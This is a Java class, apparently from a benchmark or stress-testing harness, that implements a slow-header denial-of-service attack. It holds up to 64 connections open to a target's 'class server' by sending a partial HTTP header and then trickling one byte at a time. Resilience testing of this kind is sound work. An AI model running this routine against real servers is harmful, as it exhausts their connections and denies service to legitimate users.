package org.dfra.benchmarks.attack;

import java.io.IOException;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.List;

/** Sends requests with endless headers to the robot's class server, one byte at a time. */
final class SlowHeaders extends AttackTask {

  private static final int CONNECTIONS = 64;
  private static final long PERIOD_MILLIS = 200;
  private static final byte[] BEGINNING =
      "GET / HTTP/1.1\r\nX-Slow: ".getBytes(StandardCharsets.US_ASCII);

  private final List<Socket> open = new ArrayList<>();

  /** Called by {@code TaskMain} by reflection. */
  public SlowHeaders() {}

  @Override
  protected void attack(Target target) throws IOException {
    while (open.size() < CONNECTIONS && !isStopping()) {
      Socket socket = attempt(() -> begin(target));
      if (socket == null) {
        break;
      }
      open.add(socket);
    }
    for (Iterator<Socket> all = open.iterator(); all.hasNext(); ) {
      Socket socket = all.next();
      if (attempt(() -> goOn(socket)) == null) {
        all.remove();
        socket.close();
      }
    }
    pause(PERIOD_MILLIS);
  }

  private static Socket begin(Target target) throws IOException {
    Socket socket = target.sockets().createSocket(target.host(), target.classPort());
    socket.getOutputStream().write(BEGINNING);
    return socket;
  }

  private static Socket goOn(Socket socket) throws IOException {
    socket.getOutputStream().write('x');
    return socket;
  }
}
